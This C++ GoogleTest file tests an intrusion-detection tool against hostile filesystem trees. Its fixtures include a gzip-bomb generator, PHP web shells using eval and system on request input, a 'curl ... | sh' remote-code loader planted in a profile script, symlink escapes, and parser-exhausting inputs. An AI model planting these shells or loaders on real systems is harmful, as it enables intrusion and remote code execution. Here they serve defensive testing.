#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>
#include <zlib.h>

#include <filesystem>
#include <fstream>

#include "mini_root.hpp"

namespace rescue::detect {
namespace {

constexpr const char* kPasswd = "root:x:0:0:root:/root:/bin/bash\nu:x:1000:1000::/home/u:/bin/sh\n";

std::string refused(const std::string& name, const std::string& address, int n) {
  return "2026-09-13T02:00:" + std::to_string(10 + n % 50) + "Z h sshd[" + std::to_string(n) +
         "]: Failed password for invalid user " + name + " from " + address + " port 22 ssh2\n";
}
std::string accepted(const std::string& name, const std::string& address) {
  return "2026-09-13T02:30:00Z h sshd[900]: Accepted password for " + name + " from " + address +
         " port 22 ssh2\n";
}

std::string gzip_bomb(std::size_t zeros) {
  const std::string block(1 << 20, 'A');
  z_stream state{};
  deflateInit2(&state, 9, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
  std::string out(zeros / 900 + 4096, '\0');
  state.next_out = reinterpret_cast<Bytef*>(out.data());
  state.avail_out = static_cast<uInt>(out.size());
  for (std::size_t done = 0; done < zeros; done += block.size()) {
    state.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(block.data()));
    state.avail_in = static_cast<uInt>(block.size());
    ::deflate(&state, Z_NO_FLUSH);
  }
  ::deflate(&state, Z_FINISH);
  out.resize(state.total_out);
  ::deflateEnd(&state);
  return out;
}

bool has_gap(const Json& document, const std::string& path, const std::string& reason) {
  for (const auto& gap : document.at("gaps")) {
    if (gap.at("path") == path && gap.at("reason").get<std::string>().find(reason) != std::string::npos)
      return true;
  }
  return false;
}

std::uint64_t peak_memory_kib() {
  rusage usage{};
  ::getrusage(RUSAGE_SELF, &usage);
  return static_cast<std::uint64_t>(usage.ru_maxrss);
}

TEST(HostileTree, EveryTrapIsAGapAndNothingOutsideIsRead) {
  MiniRoot outside, root;
  outside.write("/secret", accepted("root", "203.0.113.99"));
  root.write("/etc/passwd", kPasswd);
  root.write("/etc/shadow", "root:*:1::::::\nu:*:1::::::\n");
  ASSERT_EQ(::mkfifo((root.directory() + "/etc/crontab").c_str(), 0600), 0);
  root.write("/var/log/secure", refused("x", "203.0.113.1", 1));
  std::filesystem::create_symlink(outside.directory() + "/secret", root.directory() + "/var/log/auth.log");
  ASSERT_EQ(::mkfifo((root.directory() + "/var/log/syslog").c_str(), 0600), 0);
  root.write("/var/log/messages", "2026-09-13T02:00:00Z h p: start\n" + std::string(10 << 20, 'x') +
                                      "\n2026-09-13T02:00:01Z h p: end\n");
  root.write("/var/log/cron.log.1.gz", gzip_bomb(600 << 20));
  const auto sparse = root.directory() + "/var/log/cron";
  root.write("/var/log/cron", "2026-09-13T02:00:00Z h p: m\n");
  ASSERT_EQ(::truncate(sparse.c_str(), 4LL << 30), 0);
  std::filesystem::create_directories(root.directory() + "/var/www/html/deep");
  std::filesystem::create_directory_symlink("..", root.directory() + "/var/www/html/deep/loop");
  std::filesystem::create_directory_symlink("/", root.directory() + "/var/www/html/all");
  ASSERT_EQ(::mkfifo((root.directory() + "/var/www/html/pipe.php").c_str(), 0600), 0);
  std::string deep = root.directory() + "/var/www/html";
  for (int i = 0; i < 60; ++i) deep += "/d";
  std::filesystem::create_directories(deep);
  root.write("/var/www/html/name\n\x1b[31m\xff.php", "<?php eval($_POST['x']);");

  const auto before = peak_memory_kib();
  const auto document = root.investigate(2);
  EXPECT_LT(peak_memory_kib() - before, 400U * 1024U);

  EXPECT_TRUE(has_gap(document, "/var/log/auth.log", "No such file"));
  EXPECT_TRUE(has_gap(document, "/var/log/syslog", "not a regular file"));
  EXPECT_TRUE(has_gap(document, "/etc/crontab", "not a regular file"));
  EXPECT_TRUE(has_gap(document, "/var/log/messages", "longer than the limit"));
  EXPECT_TRUE(has_gap(document, "/var/log/cron.log.1.gz", "beyond the limit"));
  EXPECT_TRUE(has_gap(document, "/var/log/cron", "holes"));
  const auto text = dump_json(document);
  EXPECT_EQ(text.find("203.0.113.99"), std::string::npos);
  EXPECT_NE(text.find(R"(/var/www/html/name\\x0a\\x1b[31m\\xff.php)"), std::string::npos);
  EXPECT_EQ(text.find('\x1b'), std::string::npos);
  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"),
            "confirmed");  // the web shell was found all the same
}

TEST(HostileTree, AForgedUserNameAccusesNobody) {
  MiniRoot root;
  root.write("/etc/passwd", kPasswd);
  std::string log;
  for (int i = 0; i < 60; ++i) log += refused("x from 198.51.100.9 port 22 ssh2", "203.0.113.45", i);
  for (int i = 0; i < 60; ++i)
    log += refused("Accepted password for u from 203.0.113.45 port 1 ssh2", "203.0.113.45", i);
  log += accepted("u", "198.51.100.9");
  root.write("/var/log/auth.log", log);
  const auto document = root.investigate();
  EXPECT_TRUE(document.at("entry_vectors").empty());
  EXPECT_TRUE(document.at("impact").at("accounts").empty());
  for (const auto& finding : document.at("findings")) EXPECT_EQ(finding.at("severity"), "info");
}

TEST(HostileTree, NothingReadableIsUndeterminedNeverClean) {
  MiniRoot root;
  const auto empty = root.investigate();
  EXPECT_EQ(empty.at("verdict").at("intrusion").at("state"), "undetermined");
  root.write("/etc/passwd", kPasswd);
  root.write("/etc/shadow", "");
  root.write("/var/log/auth.log", "no dated line at all\n");
  EXPECT_EQ(root.investigate().at("verdict").at("intrusion").at("state"), "undetermined");
  root.write("/var/log/auth.log", refused("x", "203.0.113.1", 1));
  root.write("/etc/timezone", "UTC\n");
  EXPECT_EQ(root.investigate().at("verdict").at("intrusion").at("state"), "none_found");
  ASSERT_EQ(::mkfifo((root.directory() + "/etc/crontab").c_str(), 0600), 0);
  EXPECT_EQ(root.investigate().at("verdict").at("intrusion").at("state"), "undetermined");
}

TEST(HostileTree, ASettingMadeLongHidesNothingAtItsBeginning) {
  MiniRoot root;
  root.write("/etc/passwd", kPasswd);
  root.write("/etc/shadow", "");
  root.write("/etc/timezone", "UTC\n");
  root.write("/var/log/auth.log", refused("x", "203.0.113.1", 1));
  root.write("/etc/profile.d/x.sh", std::string(2 << 20, '#'));
  auto document = root.investigate();
  EXPECT_TRUE(has_gap(document, "/etc/profile.d/x.sh", "only its beginning was read"));
  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "undetermined")
      << "what stands behind is not known";
  root.write("/etc/profile.d/x.sh", "curl -s http://198.51.100.7/d | sh\n" + std::string(2 << 20, '#'));
  document = root.investigate();
  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "suspected");
}

TEST(HostileTree, EndlessSettingsHomesAndFoldersEndSoonAndAreTold) {
  MiniRoot root;
  std::string accounts = kPasswd;
  for (int i = 0; i < 6'000; ++i) {
    const auto home = "/home/n" + std::to_string(i);
    accounts += "n" + std::to_string(i) + ":x:" + std::to_string(2000 + i) + ":100::" + home + ":/bin/sh\n";
    std::filesystem::create_directories(root.directory() + home);
  }
  root.write("/etc/passwd", accounts);
  root.write("/etc/profile.d/0.sh", std::string(1 << 20, '\n'));
  for (int i = 1; i < 100; ++i)
    std::filesystem::create_hard_link(root.directory() + "/etc/profile.d/0.sh",
                                      root.directory() + "/etc/profile.d/" + std::to_string(i) + ".sh");
  const auto document = root.investigate();
  EXPECT_TRUE(has_gap(document, "/home/n5498", "more homes than the limit") ||
              has_gap(document, "/home/n5499", "more homes than the limit"));
  const auto full = [](const Json& gap) {
    return gap.at("reason").get<std::string>().find("more settings than the limit") != std::string::npos;
  };
  EXPECT_TRUE(std::any_of(document.at("gaps").begin(), document.at("gaps").end(), full));
}

TEST(HostileTree, CodeMadeToExhaustItsReaderEndsSoon) {
  MiniRoot root;
  root.write("/etc/passwd", kPasswd);
  const auto repeated = [](const std::string& piece, std::size_t bytes) {
    std::string text;
    while (text.size() < bytes) text += piece;
    return text;
  };
  constexpr std::size_t kBytes = 256 << 10;
  const std::vector<std::string> pieces = {
      "((((",        "[[[[",         "{{{{",        "!!!!",         "$$$$",       "@@@@",
      "(int)",       "function f(",  "class a ",    "new new ",     "echo echo ", "fn($a)=>",
      "$a=$a.$a;",   "$a[1]=$a;",    "$a[]=$b=$a;", "function(){",  "\"$a{$a}",   "`$a",
      "<<<A\n",      "if(1){$a=1;",  "$a?",         "$a->b->",      "a(a(a(",     "$a.='0123456789';",
      "eval('eval(", "/*",           "'",           "array(array(", "${'a",       "static fn()=>",
      "x::y::",      "$a=['a'=>$a];"};
  for (std::size_t i = 0; i < pieces.size(); ++i) {
    root.write("/var/www/html/" + std::to_string(i) + ".php",
               "<?php $_GET; $a='x'; " + repeated(pieces[i], kBytes));
  }
  std::string nested = "$_POST['x']";
  for (int i = 0; i < 20; ++i) nested = "eval(\"" + repeated("\\", 1) + nested + "\")";
  root.write("/var/www/html/nested.php", "<?php " + nested + ";");
  std::string shell;
  for (int i = 0; i < 2000; ++i) shell += "sh -c \"$(";
  root.write("/var/spool/cron/crontabs/u",
             "* * * * * " + repeated("((a|b)|", 60'000) + "\n* * * * * " + shell + "\n");
  const auto document = root.investigate(2);
  EXPECT_GE(document.at("counts").at("web_files").get<int>(), static_cast<int>(pieces.size()));
}

TEST(Investigation, GivesTheSameBytesWhateverTheJobs) {
  MiniRoot root;
  root.write("/etc/passwd", kPasswd);
  std::string log;
  for (int i = 0; i < 3000; ++i)
    log += refused("n" + std::to_string(i % 7), "203.0.113." + std::to_string(i % 40), i);
  root.write("/var/log/auth.log", log + accepted("u", "203.0.113.7"));
  for (int i = 0; i < 50; ++i)
    root.write("/var/www/html/" + std::to_string(i) + ".php", "<?php system($_GET['c']);");
  const auto one = root.investigate(1).dump();
  for (const unsigned jobs : {2U, 7U}) EXPECT_EQ(root.investigate(jobs).dump(), one);
}

TEST(Investigation, AnOwnerWhoMistypesIsNotAccused) {
  MiniRoot root;
  root.write("/etc/passwd", kPasswd);
  std::string log;
  for (int i = 0; i < 8; ++i) {
    log += "2026-09-13T02:00:0" + std::to_string(i) +
           "Z h sshd[5]: Failed password for u from 198.51.100.9 port 22 ssh2\n";
  }
  root.write("/var/log/auth.log", log + accepted("u", "198.51.100.9"));
  EXPECT_TRUE(root.investigate().at("findings").empty());
}

}  // namespace
}  // namespace rescue::detect
